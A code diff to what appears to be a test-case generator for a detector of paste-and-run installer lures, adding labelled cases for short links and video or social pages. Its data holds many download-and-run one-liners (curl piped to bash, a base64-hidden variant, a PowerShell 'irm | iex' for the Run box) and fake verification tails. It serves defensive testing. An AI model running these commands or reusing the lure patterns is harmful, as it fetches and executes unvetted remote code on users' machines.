@@ -18,6 +18,15 @@ Principles:
   known publisher's name as a tenant, a fake check page, a borrowed company name with bait
   words, a page about something else, plain HTTP, a lure tail, tunnels and paste sites (no
   project keeps its site there), the Run box.
+- `short-link`: a short link hides where the script comes from. The project's own page (its
+  repository page, its own site) handing out a short link named after the project is the
+  project's choice (info); a tutorial, a question or a forum quoting it gets a warning, never a
+  block. Look-alikes: a link named otherwise, the project's issues, a forum on its domain, a
+  page about something else, a check page, a lure tail, hidden in base64, the Run box.
+- `video-page`: a video or social post's address carries ids, not a subject (youtube.com/watch):
+  a download-and-run quoted there is a warning like from any page that says nothing, not a
+  block as from a page about something else. Look-alikes: a lure trait, a forum thread about
+  cooking, a shop's page.
 """
 
 from __future__ import annotations
@@ -111,8 +120,65 @@ def tenant_sites() -> list[dict[str, str]]:
     return out
 
 
+def short_links() -> list[dict[str, str]]:
+    gh = "https://github.com/brackenfold/pollinate"
+    site = "https://pollinate.dev/docs/install"
+    tutorial = "https://www.linuxnotes.example/how-to-install-pollinate-on-debian/"
+    out = [
+        ok("short-own-forge-1", "curl -L https://bit.ly/pollinate | bash", "linux", gh),
+        ok("short-own-forge-2", "curl -sL https://tinyurl.com/brackenfold | sh", "linux", gh + "#installation"),
+        ok("short-own-site-1", "curl -fsSL https://bit.ly/pollinate | sh", "macos", site),
+        ok("short-own-site-2", "bash <(curl -sL https://is.gd/pollinate)", "linux", "https://docs.pollinate.dev/quickstart"),
+    ]  # fmt: skip
+    # quoted by a tutorial, a question, a forum: a warning, never a block
+    for i, page in enumerate(
+        (
+            tutorial,
+            "https://unix.stackexchange.com/questions/771234/pollinate-installer-fails",
+            "https://forum.pollinate.dev/t/install-on-arm/88",
+            gh + "/issues/311",
+        ),
+        1,
+    ):
+        out.append(
+            lure(
+                f"short-quoted-{i}",
+                "curl -L https://bit.ly/pollinate | bash",
+                "suspicious",
+                "T1204.004",
+                "linux",
+                page,
+            )
+        )
+    out += [
+        # a short link named otherwise than the page's project: a warning, as from a tutorial
+        lure("short-other-1", "curl -L https://bit.ly/x7Qm2 | bash", "flagged", "T1105", "linux", gh),
+        lure("short-other-2", "curl -L https://bit.ly/rustup | bash", "flagged", "T1036", "linux", "https://github.com/brackenfold/rustup-tools"),
+        # from a page about something else, a check page, with a lure's tail, hidden
+        lure("short-unrelated-1", "curl -L https://bit.ly/pollinate | bash", "malicious", "T1204.004", "linux", STRANGER),
+        lure("short-check-1", "curl -L https://bit.ly/pollinate | bash", "malicious", "T1204.004", "macos", "https://pollinate-verify.example/captcha"),
+        lure("short-tail-1", "curl -L https://bit.ly/pollinate | bash # I am not a robot - ID 2291", "malicious", "T1204.004", "macos", tutorial),
+        lure("short-hidden-1", "echo Y3VybCAtTCBodHRwczovL2JpdC5seS9wb2xsaW5hdGUgfCBiYXNo | base64 -d | bash", "malicious", "T1027", "macos", tutorial),
+        # the Run box, and no page at all
+        lure("short-runbox-1", 'powershell -c "irm https://bit.ly/pollinate | iex"', "malicious", "T1204.004", "windows", gh, "run_dialog"),
+        lure("short-bare-1", "curl -L https://bit.ly/pollinate | bash", "malicious", "T1105", "linux", None),
+    ]  # fmt: skip
+    return out
+
+
+def video_pages() -> list[dict[str, str]]:
+    watch = "https://www.youtube.com/watch?v=Rk2wQ8pLx0c"
+    return [
+        lure("video-quoted-1", "curl -fsSL https://get.quarrel.dev/install.sh | bash", "suspicious", "T1204.004", "linux", watch),
+        lure("video-quoted-2", "curl -fsSL https://get.quarrel.dev/install.sh | bash", "suspicious", "T1204.004", "linux", "https://x.com/someone/status/1799123456"),
+        lure("video-tail-1", "curl -fsSL https://get.quarrel.dev/install.sh | bash # ✅ verification complete", "malicious", "T1204.004", "macos", watch),
+        lure("video-forum-1", "curl -fsSL https://get.quarrel.dev/install.sh | bash", "malicious", "T1204.004", "linux", "https://www.reddit.com/r/cooking/comments/1h2kq9z/best_winter_soup/"),
+        lure("video-shop-1", "curl -fsSL https://get.quarrel.dev/install.sh | bash", "malicious", "T1204.004", "linux", STRANGER),
+    ]  # fmt: skip
+
+
 def build() -> list[dict[str, str]]:
-    cases = [*tenant_sites()]
+    cases = [*tenant_sites(), *short_links(), *video_pages()]
     ids = [c["id"] for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
     return cases
